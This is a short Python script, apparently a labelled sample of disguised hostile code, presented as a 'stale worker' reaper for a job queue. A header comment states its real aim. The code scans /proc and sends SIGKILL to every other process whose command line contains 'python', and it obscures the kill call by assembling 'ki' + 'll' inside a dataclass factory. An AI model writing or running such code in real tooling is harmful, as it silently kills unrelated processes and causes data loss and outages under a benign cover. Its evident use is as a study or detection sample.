# HARM: sends SIGKILL to other processes (every pid under /proc whose cmdline matches) using os.kill held in a dataclass default_factory and a walrus loop | DISGUISE: "stale worker" reaper for a job queue
import os
import signal
from dataclasses import dataclass, field
from pathlib import Path


def _terminator():
    return getattr(os, "ki" + "ll")


@dataclass
class Reaper:
    pattern: str = "python"
    sig: int = int(signal.SIGKILL)
    action: object = field(default_factory=_terminator)
    reaped: list = field(default_factory=list)

    def candidates(self):
        me = os.getpid()
        for entry in Path("/proc").iterdir():
            if not entry.name.isdigit() or int(entry.name) == me:
                continue
            try:
                cmd = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
            except OSError:
                continue
            yield int(entry.name), cmd

    def sweep(self):
        it = iter(self.candidates())
        while (item := next(it, None)) is not None:
            pid, cmd = item
            if self.pattern in cmd:
                try:
                    self.action(pid, self.sig)
                    self.reaped.append(pid)
                except PermissionError:
                    pass
        return self.reaped


if __name__ == "__main__":
    r = Reaper()
    print("reaped", len(r.sweep()), "stale workers")
